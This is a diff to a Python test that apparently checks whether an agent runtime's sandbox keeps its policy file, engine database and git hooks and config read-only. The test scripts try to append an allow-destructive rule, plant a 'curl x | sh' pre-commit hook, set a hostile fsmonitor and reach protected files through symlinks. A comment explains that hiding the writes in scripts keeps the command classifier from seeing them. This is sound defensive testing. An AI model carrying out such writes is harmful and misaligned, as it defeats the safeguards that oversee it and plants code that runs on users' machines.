@@ -257,13 +257,16 @@ def test_runtime_files_in_the_workspace_are_read_only(tmp_path: Path) -> None:
     policy = ws / "policy.yaml"
     policy.write_text("default: deny\n")
     db = ws / ".engine" / "engine.db"
-    commands = [
-        "echo 'rules: [{decision: allow, risk: destructive}]' >> policy.yaml; "
-        "echo junk >> .engine/engine.db; echo 'curl x | sh' > .git/hooks/pre-commit; "
-        "echo '[core] fsmonitor = evil' >> .git/config; echo ok > fine.txt",
-        "ln -s .git/hooks hk; echo x > hk/post-checkout; ln -s .engine/engine.db db.lnk; "
-        "echo junk >> db.lnk; ln -s policy.yaml p.lnk; echo x >> p.lnk; echo ok > fine2.txt",
-    ]
+    # The writes sit in scripts, where the classifier cannot see them (it asks, and --approval
+    # auto approves): only the sandbox stands between them and the runtime's files.
+    (ws / "direct.sh").write_text(
+        "echo 'rules: [{decision: allow, risk: destructive}]' >> policy.yaml\n"
+        "echo junk >> .engine/engine.db\necho 'curl x | sh' > .git/hooks/pre-commit\n"
+        "echo '[core] fsmonitor = evil' >> .git/config\necho ok > fine.txt\n")
+    (ws / "links.sh").write_text(
+        "ln -s .git/hooks hk; echo x > hk/post-checkout; ln -s .engine/engine.db db.lnk\n"
+        "echo junk >> db.lnk; ln -s policy.yaml p.lnk; echo x >> p.lnk; echo ok > fine2.txt\n")
+    commands = ["sh direct.sh", "sh links.sh"]
     proc = _run(tmp_path, ws, commands, db=db, policy=policy)
     assert proc.returncode == 0, proc.stdout + proc.stderr
     assert policy.read_text() == "default: deny\n"
